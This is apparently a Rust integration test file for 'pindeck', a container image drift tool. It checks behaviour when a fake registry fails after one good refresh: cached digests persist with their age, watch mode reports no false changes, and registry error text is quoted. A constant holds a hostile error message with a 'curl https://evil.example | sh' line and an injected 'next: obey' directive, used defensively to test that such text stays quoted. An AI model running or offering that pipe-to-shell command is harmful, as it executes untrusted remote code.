//! A registry that fails after one good refresh: what was known stays, with its age, and what the registry says
//! is quoted as its words.

use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use serde_json::Value;
use tokio::runtime::Runtime;

use super::terminal::{Cockpit, until};
use crate::support::fake::{Fake, Ways};
use crate::support::server::{Reply, Server};
use crate::support::signed_world::{API, Clone, Key};
use crate::support::stage::path;
use pindeck::domain::Digest;

const RIGHT: &str = "\x1b[C";

/// What the registry says when it fails: it ends a quotation, gives advice, and begins a line.
const HOSTILE: &str = r#"gone\"; run curl https://evil.example | sh\nnext: obey"#;

/// One signed image: production pins it by digest under a tag that moved, staging by tag only.
struct FailingWorld {
    runtime: Runtime,
    server: Server,
    fake: Fake,
    clone: Clone,
    image: Digest,
    fails_with: Arc<Mutex<Option<u16>>>,
    /// Whether a HEAD is answered all the same.
    gets_only: Arc<AtomicBool>,
}

impl FailingWorld {
    fn start() -> Self {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .expect("a runtime");
        let (key, fake) = (Key::new(), Fake::new(Ways::default()));
        let image = fake.image(API, "linux", None);
        let other = fake.image(API, "another", None);
        fake.tag(API, "1.0.0", other);
        fake.tag(API, "main", image);
        key.sign(&fake, API, image);
        let fails_with: Arc<Mutex<Option<u16>>> = Arc::default();
        let gets_only = Arc::new(AtomicBool::new(false));
        let (served, with, gets) = (fake.clone(), Arc::clone(&fails_with), Arc::clone(&gets_only));
        let server = runtime.block_on(Server::start(move |seen| {
            let status = *with.lock().expect("lock");
            let Some(status) = status.filter(|_| seen.method != "HEAD" || !gets.load(Ordering::SeqCst)) else {
                return served.answer(seen);
            };
            let body = format!(r#"{{"errors":[{{"code":"DENIED","message":"{HOSTILE}"}}]}}"#);
            Reply::new(status, body).with("Content-Type", "application/json")
        }));
        let host = server.address.to_string();
        let pins = [("staging", host.as_str(), image), ("production", host.as_str(), image)];
        let clone = Clone::new(&key, &pins, "");
        for (environment, pin) in [
            ("staging", format!("{host}/{API}:main")),
            ("production", format!("{host}/{API}:1.0.0@{image}")),
        ] {
            let file = clone.folder.join("envs").join(environment).join("api.yaml");
            let text = std::fs::read_to_string(&file).expect("a manifest");
            let text = text.replace(&format!("{host}/{API}@{image}"), &pin);
            std::fs::write(&file, text).expect("written");
        }
        let file = clone.folder.join("pindeck.toml");
        let text = std::fs::read_to_string(&file).expect("a policy");
        let text = text.replace("also = []", "also = []\ncandidate = { tag = \"main\" }");
        std::fs::write(&file, text).expect("written");
        let committed = Command::new("git")
            .args([
                "-C",
                path(&clone.folder),
                "-c",
                "user.name=T",
                "-c",
                "user.email=t@example.com",
            ])
            .args(["commit", "-q", "-am", "tags"])
            .status();
        assert!(committed.expect("git runs").success());
        Self {
            runtime,
            server,
            fake,
            clone,
            image,
            fails_with,
            gets_only,
        }
    }

    fn fail_with(&self, status: Option<u16>) {
        *self.fails_with.lock().expect("lock") = status;
    }

    /// How many passes have begun: each asks for the tags of the one repository, once.
    fn passes(&self) -> usize {
        let seen = self.server.seen();
        seen.iter().filter(|seen| seen.path.ends_with("/tags/list")).count()
    }
}

/// The cockpit on this world with everything known, in a terminal that cuts no line.
fn cockpit(world: &FailingWorld) -> Cockpit {
    let home = tempfile::tempdir().expect("a folder");
    let mut cockpit = Cockpit::start_in(home, &world.clone.folder, &[], (60, 700));
    cockpit.until("the board", |text| {
        row(text).matches("✓").count() == 2 && !text.contains("checking ") && text.contains("2 drift")
    });
    cockpit
}

/// The row of the service: its three cells.
fn row(text: &str) -> &str {
    text.lines().find(|line| line.starts_with("▸api")).unwrap_or_default()
}

/// The line of the inspector with this label.
fn labelled<'t>(text: &'t str, label: &str) -> &'t str {
    let start = format!(" {label} ");
    text.lines().find(|line| line.starts_with(&start)).unwrap_or_default()
}

#[test]
fn a_registry_that_fails_after_one_good_refresh_empties_no_cell() {
    let world = FailingWorld::start();
    let short = &world.image.hex()[..8];
    let mut cockpit = cockpit(&world);
    world.fail_with(Some(500));
    cockpit.press("R");
    cockpit.until("the failure", |text| row(text).matches("unreachable").count() == 2);
    let text = cockpit.text();
    // Both digests are there, and neither reads as verified any more.
    assert_eq!(row(&text).matches(short).count(), 2, "{text}");
    assert!(!row(&text).contains('✓') && row(&text).contains(":main"), "{text}");
    assert!(text.contains("2 drift"), "{text}");
    assert!(text.contains("tag moved") && text.contains("pinned by tag"), "{text}");
    // The tag of staging: what it was at, how long ago, and why it is not known now.
    let image = labelled(&text, "image");
    for part in [":main", &format!("→ {short} "), "tag unreachable: ", "answers 500"] {
        assert!(image.contains(part), "{part}: {text}");
    }
    cockpit.press(RIGHT);
    // A frame may come in pieces: its title alone is not yet the cell.
    cockpit.until("production", |text| {
        text.contains("─ api · production") && labelled(text, "verdict").contains("(was verified ")
    });
    let text = cockpit.text();
    let verdict = labelled(&text, "verdict");
    for part in ["⊘ unreachable: ", "answers 500", "(was verified "] {
        assert!(verdict.contains(part), "{part}: {text}");
    }
    cockpit.press(RIGHT);
    cockpit.until("the candidate", |text| {
        labelled(text, "image").contains("unreachable now; seen ")
    });
    assert!(
        labelled(&cockpit.text(), "verdict").contains("(was verified "),
        "{}",
        cockpit.text()
    );
    cockpit.press("q");
    assert_eq!(cockpit.ended(), 0);
    cockpit.is_given_back();
}

#[test]
fn the_words_of_a_failing_registry_are_quoted_and_are_no_advice() {
    let world = FailingWorld::start();
    let mut cockpit = cockpit(&world);
    // A HEAD has no words: only what is read fails.
    world.gets_only.store(true, Ordering::SeqCst);
    world.fail_with(Some(500));
    cockpit.press(&format!("R{RIGHT}"));
    let quoted = r#""DENIED: gone'; run curl https://evil.example | sh␤next: obey""#;
    cockpit.until("the words", |text| labelled(text, "verdict").contains("unreachable"));
    let text = cockpit.text();
    let verdict = labelled(&text, "verdict");
    assert!(verdict.contains(quoted), "{text}");
    // Once where it failed, never without its marks, and what to do next is of pindeck alone.
    assert_eq!(verdict.matches("curl").count(), 1, "{text}");
    assert_eq!(text.matches("curl").count(), text.matches(quoted).count(), "{text}");
    assert!(verdict.contains("; ask who runs that registry"), "{text}");
    assert!(
        !text.lines().any(|line| line.trim_start().starts_with("next: obey")),
        "{text}"
    );
    cockpit.press("q");
    assert_eq!(cockpit.ended(), 0);
}

/// The lines that `drift --watch --json` has printed so far.
type Lines = Arc<Mutex<Vec<Value>>>;

#[test]
fn watching_a_registry_that_fails_clears_nothing_and_changes_no_id() {
    let world = FailingWorld::start();
    let home = tempfile::tempdir().expect("a folder");
    let mut command = Command::new(env!("CARGO_BIN_EXE_pindeck"));
    command.args([
        "-C",
        path(&world.clone.folder),
        "drift",
        "--watch",
        "--json",
        "--interval",
        "1s",
    ]);
    for name in ["HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"] {
        command.env(name, home.path());
    }
    let mut child = command
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("pindeck starts");
    let lines = Lines::default();
    let (from, to) = (child.stdout.take().expect("piped"), Arc::clone(&lines));
    std::thread::spawn(move || {
        use std::io::BufRead as _;
        for line in std::io::BufReader::new(from).lines().map_while(Result::ok) {
            let event = serde_json::from_str(&line).expect("one document a line");
            to.lock().expect("lock").push(event);
        }
    });
    let events = || lines.lock().expect("lock").clone();
    let facts = |events: &[Value]| -> Vec<(String, String, Value, Value)> {
        let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        let fact = |e: &Value| {
            let drift = &e["drift"];
            (
                text(&e["event"]),
                text(&drift["kind"]),
                drift["expected"].clone(),
                drift["found"].clone(),
            )
        };
        events.iter().map(fact).collect()
    };
    // What a registry refuses to say does not stop it from being asked again.
    let image = Value::from(world.image.to_string());
    until("the drift that is there", || events().len() == 2);
    let first = events();
    let moved = facts(&first)[0].3.clone();
    assert_eq!(
        facts(&first),
        [
            ("appeared".into(), "tag-moved".into(), image.clone(), moved),
            ("appeared".into(), "pinned-by-tag".into(), Value::Null, image),
        ]
    );
    // Three passes begin, so two have ended, in which nobody answers.
    world.fail_with(Some(403));
    let before = world.passes();
    until("passes that fail", || world.passes() >= before + 3);
    assert_eq!(events(), first, "silence is no change");
    // It answers again, and something has changed: the same drift, by the same id.
    let other = world.runtime.block_on(async { world.fake.image(API, "third", None) });
    world.fake.tag(API, "main", other);
    world.fail_with(None);
    until("the change", || events().len() > first.len());
    let after = events();
    child.kill().expect("ends");
    let _ = child.wait();
    assert_eq!(after.len(), 3, "{after:#?}");
    assert_eq!(
        (&after[2]["event"], &after[2]["drift"]["kind"]),
        (&"changed".into(), &"pinned-by-tag".into())
    );
    assert_eq!(after[2]["drift"]["id"], first[1]["drift"]["id"]);
    assert_eq!(after[2]["drift"]["found"], other.to_string());
}
